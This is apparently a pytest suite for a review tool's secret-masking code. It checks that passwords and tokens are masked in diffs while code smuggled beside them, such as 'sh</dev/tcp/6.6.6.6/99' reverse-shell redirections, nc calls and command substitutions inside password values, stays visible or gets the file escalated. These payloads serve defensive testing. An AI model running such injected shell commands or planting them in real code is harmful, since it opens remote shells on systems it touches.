"""What looks like a secret is masked in data alone: no code goes with it, in any language, and none goes unread."""

from __future__ import annotations

import pytest
from benchmarks._secret_samples import one_mark_each
from tests.scenarios.reading import shown

from review_advisor.change.change import EXECUTABLE_MODE, FileChange, Hunk, Status
from review_advisor.change.redaction import doubtful_lines, masked_text, secrets_of, shown_file
from review_advisor.mockworld.agents import approve, confirm
from review_advisor.mockworld.world import MockWorld
from review_advisor.policy.surfaces import Role
from review_advisor.review.report import report_text
from review_advisor.review.rulings import Outcome
from review_advisor.safety.secrets import holds_mark, mark


@pytest.fixture
def world() -> MockWorld:
    return MockWorld()


CODE = {
    "a command behind a password": (
        "deploy.sh",
        "PGPASSWORD=aB3dE5fG7hI9;sh</dev/tcp/6.6.6.6/99",
        "PGPASSWORD=[secret: password];sh</dev/tcp/6.6.6.6/99",
    ),
    "a pipe": ("a.sh", "TOKEN=x7Kq2Zv9Bm4Tj6Rw1L|nc${IFS}6.6.6.6", "TOKEN=[secret: token]|nc${IFS}6.6.6.6"),
    "the background": ("a.sh", "PASSWORD=aB3dE5fG7hI9&wget&x", "PASSWORD=[secret: password]&wget&x"),
    "a second assignment": (
        "a.sh",
        "PASSWORD=aB3dE5fG7hI9;PATH=/tmp/x7Kq2Z",
        "PASSWORD=[secret: password];PATH=/tmp/x7Kq2Z",
    ),
    "backquotes": ("a.sh", 'PASSWORD="aB3dE5`id>x`fG7hI9"', 'PASSWORD="[secret: password]`id>x`[*]"'),
    "a substitution with quotes": (
        "a.sh",
        "PASSWORD=aB3dE5$(sh<'x7Kq2Zv9')fG7hI9",
        "PASSWORD=aB3dE5$(sh<'x7Kq2Zv9')fG7hI9",
    ),
    "curl -u": ("a.sh", "curl -u root:aB3dE5fG7hI9;sh</dev/tcp/1/2", "curl -u root:[secret: password];sh</dev/tcp/1/2"),
    "sshpass": ("a.sh", "sshpass -p aB3dE5fG7hI9|sh</dev/tcp/1/2", "sshpass -p [secret: password]|sh</dev/tcp/1/2"),
    "a URL": ("a.sh", "curl ftp://u:aB3dE5fG7;sh@h.example", "curl ftp://u:[secret: password in a URL];sh@h.example"),
    "a function of shells": ("a.sh", "password runBackdoorXy7Zq2Kp9", "password runBackdoorXy7Zq2Kp9"),
    "a command that runs a word": ("a.sh", "exec -a token runBackdoorXy7Zq2Kp9", "exec -a token runBackdoorXy7Zq2Kp9"),
    "a shift that is no here-document": (
        "a.sh",
        ": $((1<<n))\npassword runBackdoorXy7Zq2Kp9\nn",
        ": $((1<<n))\npassword runBackdoorXy7Zq2Kp9\nn",
    ),
    "a here-document that is run": (
        "a.sh",
        "bash <<X\npassword runBackdoorXy7Zq2Kp9\nX\n",
        "bash <<X\npassword runBackdoorXy7Zq2Kp9\nX\n",
    ),
    "a variable of Windows": (
        "a.bat",
        "set TOKEN=x7Kq2Zv9Bm4Tj6Rw1L%X:~1,1%calc",
        "set TOKEN=[secret: token]%X:~1,1%calc",
    ),
    "a workflow": (
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    steps:\n      - run: |\n          PASSWORD=aB3dE5fG7hI9;x7Kq2Zv9Bm4Tj6R\n",
        "jobs:\n  a:\n    steps:\n      - run: |\n          PASSWORD=[secret: password];x7Kq2Zv9Bm4Tj6R\n",
    ),
    "a Dockerfile": (
        "Dockerfile",
        "RUN PASSWORD=aB3dE5fG7hI9;x7Kq2Zv9Bm",
        "RUN PASSWORD=[secret: password];x7Kq2Zv9Bm",
    ),
    "a Makefile": (
        "Makefile",
        "a:\n\tPASSWORD=aB3dE5fG7hI9;x7Kq2Zv9Bm\n",
        "a:\n\tPASSWORD=[secret: password];x7Kq2Zv9Bm\n",
    ),
    "Python": (
        "a.py",
        'password = f"Zq7pX2{os.system(HOST)}mW9kLv4"',
        'password = f"[secret: password]{os.system(HOST)}[*]"',
    ),
    "a literal in an interpolation": (
        "a.py",
        "password = f\"Zq7pX2{run('x7Kq2Zv9')}mW9kLv4\"",
        "password = f\"[secret: password]{run('x7Kq2Zv9')}[*]\"",
    ),
    "an identifier": ("a.py", "token = runBackdoorXy7Zq2Kp9", "token = runBackdoorXy7Zq2Kp9"),
    "Ruby": ("a.rb", 'password = "Zq7pX2#{exec(h)}mW9kLv4"', 'password = "[secret: password]#{exec(h)}[*]"'),
    "a quote that is a character": (
        "a.rb",
        "x = ?'; token = runBackdoorXy7Zq2Kp9 #'",
        "x = ?'; token = runBackdoorXy7Zq2Kp9 #'",
    ),
    "JavaScript": ("a.js", "password = `Zq7pX2${eval(h)}mW9kLv4`", "password = `Zq7pX2${eval(h)}mW9kLv4`"),
    "a quote in a pattern": (
        "a.js",
        "x = /'/; token = runBackdoorXy7Zq2Kp9; y = /'/",
        "x = /'/; token = runBackdoorXy7Zq2Kp9; y = /'/",
    ),
    "PHP": (
        "a.php",
        '<?php $password = "Zq7pX2{$o->run()}mW9kLv4";',
        '<?php $password = "[secret: password]{$o->run()}[*]";',
    ),
    "a comment that PHP ends": (
        "a.php",
        "<?php // ?><?php $token = runBackdoorXy7Zq2Kp9;",
        "<?php // ?><?php $token = runBackdoorXy7Zq2Kp9;",
    ),
    "Perl": ("a.pl", 'password => "Zq7pX2@{[exec($h)]}mW9kLv4"', 'password => "[secret: password]@{[exec($h)]}[*]"'),
    "Swift": (
        "a.swift",
        'let password = "Zq7pX2\\(run(h))mW9kLv4"',
        'let password = "[secret: password]\\(run(h))[*]"',
    ),
    "C#": ("a.cs", 'var password = $"Zq7pX2{Run(h)}mW9kLv4";', 'var password = $"[secret: password]{Run(h)}[*]";'),
    "digits apart": (
        "a.cpp",
        "int a = 1'000; token = runBackdoorXy7Zq2Kp9; b = 1'0;",
        "int a = 1'000; token = runBackdoorXy7Zq2Kp9; b = 1'0;",
    ),
    "Kotlin": ("a.kt", 'val password = "Zq7pX2${run(h)}mW9kLv4"', 'val password = "Zq7pX2${run(h)}mW9kLv4"'),
    "Elixir": ("a.ex", 'password = "Zq7pX2#{run(h)}mW9kLv4"', 'password = "[secret: password]#{run(h)}[*]"'),
    "Terraform": ("a.tf", 'password = "Zq7pX2${file(h)}mW9kLv4"', 'password = "Zq7pX2${file(h)}mW9kLv4"'),
    "a script of a page": (
        "a.html",
        "<script>token = runBackdoorXy7Zq2Kp9</script>",
        "<script>token = runBackdoorXy7Zq2Kp9</script>",
    ),
    "a lifetime": (
        "a.rs",
        "fn f<'a>(x: &'a str) { token = runBackdoorXy7Zq2Kp9 }",
        "fn f<'a>(x: &'a str) { token = runBackdoorXy7Zq2Kp9 }",
    ),
}


@pytest.mark.parametrize("path, text, visible", CODE.values(), ids=CODE)
def test_of_a_value_that_is_recognised_only_its_data_is_masked(path: str, text: str, visible: str) -> None:
    assert masked_text(path, text) == visible
    lines = tuple(f"+{line}" for line in text.split("\n"))
    made = FileChange(Status.ADDED, path, hunks=(Hunk(0, 0, 1, len(lines), "", lines),))
    assert [line[1:] for line in shown_file(made).hunks[0].lines] == visible.split("\n")


@pytest.mark.parametrize("case", ["a command behind a password", "Python", "a workflow", "an identifier"])
def test_every_reviewer_is_shown_the_code(world: MockWorld, case: str) -> None:
    path, text, visible = CODE[case]
    lines = tuple(f"+{line}" for line in text.rstrip("\n").split("\n"))
    world.change(FileChange(Status.ADDED, path, added=len(lines), hunks=(Hunk(0, 0, 1, len(lines), "", lines),)))
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    world.review()
    for role in (Role.EXECUTOR, Role.POST_VERIFY):
        for line in visible.rstrip("\n").split("\n"):
            assert f"+{line}" in shown(world.calls(role)[0], "DIFF").split("\n"), role


def modified(path: str, *lines: str, at: int = 40, mode: str = "100644") -> FileChange:
    hunk = Hunk(at, sum(line[0] in " -" for line in lines), at, sum(line[0] in " +" for line in lines), "", lines)
    return FileChange(Status.MODIFIED, path, new_mode=mode, added=1, hunks=(hunk,))


def added(path: str, *lines: str) -> FileChange:
    signed = tuple(f"+{line}" for line in lines)
    return FileChange(Status.ADDED, path, added=len(lines), hunks=(Hunk(0, 0, 1, len(lines), "", signed),))


DOUBTFUL = {
    "a text of many lines that ends": modified("a.py", ' the end"""', "+token = runBackdoorXy7Zq2Kp9", ' """'),
    "a comment that ends": modified("a.js", " */", "+x = `", "+token = runBackdoorXy7Zq2Kp9", "+`"),
    "a template that ends": modified("a.js", " `", "+token = runBackdoorXy7Zq2Kp9", " `"),
    "a program of an unknown language": modified(
        "bin/deploy", " x", "+token = runBackdoorXy7Zq2Kp9", mode=EXECUTABLE_MODE
    ),
    "quotes of shells": modified("a.sh", " }'", "+password runBackdoorXy7Zq2Kp9", " x '"),
}


@pytest.mark.parametrize("case", [case for case in DOUBTFUL if case != "a comment that ends"])
def test_a_mask_that_may_hide_code_leaves_the_file_unread(world: MockWorld, case: str) -> None:
    file = DOUBTFUL[case]
    world.change(file)
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    document = world.review()
    assert document.outcome is Outcome.ESCALATED
    assert "what is masked as a secret may be code in line 41" in report_text(document)


NAME = "runBackdoorXy7Zq2Kp9"
SETS = f"token = {NAME}"
RUNS = "PASSWORD=aB3dE5fG7hI9;sh</dev/tcp/6.6.6.6/99"
ISSUED = "ghp_" + "x7Kq2Zv9Bm4Tj6RwLpHn3Ys8Dc5Fg1Ea0QbU"
HEX_KEY = "0fdca68a9191228c7b1e5d3f9a2468bd13579ace02468bdf13579ace8642fdb1"
SHOWN, UNREAD = "shown", "unread"
SECRETS = (ISSUED.removeprefix("ghp_"), HEX_KEY)
HIDING = {
    "GitLab, within a block": (".gitlab-ci.yml", f"    - make\n    - {RUNS}", 30, UNREAD),
    "a workflow, within a block": (".github/workflows/ci.yml", f"          set -e\n          {RUNS}", 30, UNREAD),
    "a list of YAML that may be run": (".gitlab-ci.yml", f".x: &x\n  - {RUNS}", 1, UNREAD),
    "a step that calls Python": (".github/workflows/ci.yml", f"          {SETS}", 30, UNREAD),
    "tox": ("tox.ini", f"[testenv]\ncommands =\n    {RUNS}", 1, UNREAD),
    "a task of TOML": ("pyproject.toml", f'[tool.x.tasks]\nlint = """\n{RUNS}\n"""', 1, UNREAD),
    "a script of npm": ("package.json", f'{{"scripts": {{"a": "PASSWORD=aB3dE5fG7hI9 {NAME}"}}}}', 1, UNREAD),
    "properties": ("a.properties", RUNS, 1, UNREAD),
    "F#": ("a.fs", f'let password = $"Zq7pX2{{{NAME}()}}mW9kLv4"', 1, SHOWN),
    "Visual Basic": ("a.vb", f'password = $"Zq7pX2{{{NAME}()}}mW9kLv4"', 1, SHOWN),
    "CoffeeScript": ("a.coffee", f'password = "Zq7pX2#{{{NAME}()}}mW9kLv4"', 1, SHOWN),
    "SCSS": ("a.scss", f'$password: "Zq7pX2#{{{NAME}()}}mW9kLv4"', 1, SHOWN),
    "Vue": ("a.vue", f'<X :password="Zq7pX2+{NAME}()"/>', 1, SHOWN),
    "Razor": ("a.cshtml", f'<x password="Zq7pX2@({NAME}())mW9kLv4"/>', 1, SHOWN),
    "Tcl": ("a.tcl", f'set password "Zq7pX2[{NAME} x]mW9kLv4"', 1, SHOWN),
    "ColdFusion": ("a.cfm", f'<cfset password = "Zq7pX2#{NAME}()#mW9kLv4">', 1, SHOWN),
    "Cue": ("a.cue", f'password: "Zq7pX2\\({NAME})mW9kLv4"', 1, SHOWN),
    "an index of Perl": ("a.pl", f"$password = \"Zq7pX2$x[system('{NAME}')]mW9kLv4\";", 1, SHOWN),
    "apostrophes of JSX": ("a.jsx", f"x = <p>don't</p>; {SETS}; y = <p>can't</p>", 1, UNREAD),
    "brackets in brackets of Ruby": ("a.rb", f"x = %q{{a{{b}}'}}; {SETS}; y = %q{{'}}", 1, UNREAD),
    "quotes of Perl": ("a.pl", f"$x = q^'^; {SETS}; $y = q^'^;", 1, UNREAD),
    "CMake": ("CMakeLists.txt", SETS, 1, UNREAD),
    "Bazel": ("BUILD", SETS, 1, UNREAD),
    "Meson": ("meson.build", SETS, 1, UNREAD),
    "an unknown extension": ("a.bicep", SETS, 9, UNREAD),
    "a CGI": ("a.cgi", SETS, 9, UNREAD),
    "a program named as prose": ("a.txt", f"#!/bin/sh\npassword {NAME}", 1, SHOWN),
    "a carriage return": ("a.py", f"# x\r{SETS}", 1, UNREAD),
    "a line separator": ("a.js", f"// x\u2028{SETS}", 1, UNREAD),
    "a next line": ("a.cs", f"// x\u0085{SETS}", 1, UNREAD),
    "a token that a workflow runs": (
        ".github/workflows/ci.yml",
        f"jobs:\n  a:\n    steps:\n      - run: {ISSUED}",
        1,
        UNREAD,
    ),
    "a token in the text of JSX": ("a.jsx", f"<code>{ISSUED}</code>", 1, UNREAD),
    "a token in an unknown language": ("a.nim", f"# {ISSUED}", 1, UNREAD),
    "a token that a shell calls": ("a.sh", f"sudo {ISSUED}", 1, UNREAD),
    "a key as a number of Solidity": ("a.sol", f"uint256 privateKey = 0x{HEX_KEY};", 1, UNREAD),
    "a key as a number of JavaScript": ("a.js", f"const privateKey = 0x{HEX_KEY}n;", 1, UNREAD),
    "a pattern too long to read": ("a.js", f'x = "{ISSUED}";\n{"/[" * 300}; password = "x7Kq2Zv9Bm4Tj6R";', 1, UNREAD),
}


@pytest.mark.parametrize("path, text, at, seen", HIDING.values(), ids=HIDING)
def test_code_is_shown_or_its_file_is_not_approved(world: MockWorld, path: str, text: str, at: int, seen: str) -> None:
    lines = [f"+{line}" for line in text.split("\n")]
    file = modified(path, *lines, at=at) if at > 1 else added(path, *text.split("\n"))
    visible = any(NAME in line or "</dev/tcp" in line for hunk in shown_file(file).hunks for line in hunk.lines)
    assert visible if seen == SHOWN else doubtful_lines(file)
    world.change(file)
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    document = world.review()
    assert seen == SHOWN or document.outcome is not Outcome.APPROVED
    for role in (Role.EXECUTOR, Role.POST_VERIFY):
        assert all(secret not in str(call) for secret in SECRETS for call in world.calls(role))


ORDINARY = {
    "a password in its quotes": modified("a.py", ' """The end."""', '+password = "x7Kq2Zv9Bm4Tj6R"', " y"),
    "one of shells": modified("a.sh", " x 'y'", "+PASSWORD='x7Kq2Zv9Bm4Tj6R'", " z"),
    "a bare one": modified("a.sh", " x 'y'", "+PASSWORD=x7Kq2Zv9Bm4Tj6R", " z"),
    "one of PHP": modified("a.php", ' x("y");', '+$password = "x7Kq2Zv9Bm4Tj6R";', " z"),
    "a setting": modified("a.yaml", " x: y", "+password: x7Kq2Zv9Bm4Tj6R", " z: 1"),
    "a template": modified("a.js", " x = `y`", "+password = `x7Kq2Zv9Bm4Tj6R`", " z"),
    "a comment": modified("a.go", " /* y */", "+// password: x7Kq2Zv9Bm4Tj6R", " z"),
    "no secret": modified("a.py", ' """', "+token = run_the_front_door(x)", ' """'),
    **{
        f"{path}: {line}": modified(path, " ", f"+{line.format('x7Kq2Zv9Bm4Tj6R')}", " ")
        for path, line in (
            ("a.py", '    client = Client(password="{}", retries=f(1))'),
            ("a.py", "# password: {}"),
            ("a.py", 'URL = "postgres://u:{}@db/x"'),
            ("a.js", 'const password = "{}";'),
            ("a.ts", "const password: string = '{}';"),
            ("a.js", "// password: {}"),
            ("a.go", 'password := "{}"'),
            ("A.java", 'String password = "{}";'),
            ("a.rb", "password = '{}'"),
            ("a.php", '$password = "{}";'),
            ("a.pl", 'my $password = "{}";'),
            ("a.cs", 'var password = @"{}";'),
            ("a.kt", 'val password = "{}"'),
            ("a.swift", 'let password = "{}"'),
            ("a.rs", 'let password = "{}";'),
            ("a.sh", 'export PASSWORD="{}"'),
            ("a.sh", "PASSWORD={} ./run"),
            ("Dockerfile", "ENV PASSWORD={}"),
            (".env", "PASSWORD={}"),
            (".env", "DATABASE_URL=postgres://u:{}@db/x"),
            ("a.yml", 'password: "{}"'),
            ("docker-compose.yml", "      POSTGRES_PASSWORD: {}"),
            ("docker-compose.yml", "      - POSTGRES_PASSWORD={}"),
            ("a.properties", "db.password={}"),
            ("a.toml", 'password = "{}"'),
            ("a.ini", "password = {}"),
            ("a.json", '  "password": "{}",'),
            ("settings.xml", "<password>{}</password>"),
            ("README.md", "The password is `{}`."),
            ("README.md", "password: {}"),
        )
    },
    "a key": modified(
        "a.pem", " -----BEGIN RSA PRIVATE KEY-----", "+MIIEpAIBAAKCAQEAx7Kq2Zv9Bm4Tj6Rw1Lx7Kq2Zv9Bm4Tj6Rw1L"
    ),
}


@pytest.mark.parametrize("file", ORDINARY.values(), ids=ORDINARY)
def test_an_ordinary_secret_is_masked_and_its_file_is_read(file: FileChange) -> None:
    assert holds_mark("\n".join(shown_file(file).hunks[0].lines)) is (file is not ORDINARY["no secret"])
    assert doubtful_lines(file) == ()


def test_a_value_of_a_test_is_no_name_of_the_code(world: MockWorld) -> None:
    world.change(
        added("tests/test_a.py", 'api_token = "runBackdoorXy7Zq2Kp9"'),
        added("src/a.py", "def runBackdoorXy7Zq2Kp9():", "    import runBackdoorXy7Zq2Kp9"),
    )
    world.agents.script(Role.EXECUTOR, approve())
    world.agents.script(Role.POST_VERIFY, confirm())
    world.review()
    for role in (Role.EXECUTOR, Role.POST_VERIFY):
        diff = shown(world.calls(role)[0], "DIFF")
        assert "+def runBackdoorXy7Zq2Kp9():" in diff
        assert f'+api_token = "{mark("token")}"' in diff


@pytest.mark.parametrize(
    "other, is_known",
    [
        (added("src/b.py", "x = 'x7Kq2Zv9Bm4Tj6Rw1L'"), True),
        (added("src/b.py", "import x7Kq2Zv9Bm4Tj6Rw1L"), False),
        (added("src/x7Kq2Zv9Bm4Tj6Rw1L.py", "y"), True),
        (added("x7Kq2Zv9Bm4Tj6Rw1L", "y"), False),
    ],
    ids=["a literal", "a name", "part of a path", "a path"],
)
def test_a_secret_is_known_again_where_it_is_no_name_in_use(other: FileChange, is_known: bool) -> None:
    files = [added("src/a.py", 'api_token = "x7Kq2Zv9Bm4Tj6Rw1L"'), other]
    assert [run for run, _ in secrets_of(files)] == ["x7Kq2Zv9Bm4Tj6Rw1L"] * is_known


def test_a_key_in_code_is_masked_where_its_lines_are_literals() -> None:
    body = "MIIEpAIBAAKCAQEAx7Kq2Zv9Bm4Tj6Rw1Lx7Kq2Zv9Bm4Tj6Rw1L"
    key = f'KEY = """-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----"""\n'
    assert masked_text("a.py", key) == key.replace(body, mark("private key"))
    bare = f"# -----BEGIN RSA PRIVATE KEY-----\n{body}\n"
    assert masked_text("a.py", bare) == bare


def test_a_jot_of_signs_stays() -> None:
    shown = masked_text("a.yaml", "password: aB3!dE5%fG7_hI9\n")
    assert shown == "password: [secret: password]![*]%[*]_[*]\n"
    assert one_mark_each(shown) == "password: [secret: password]\n"
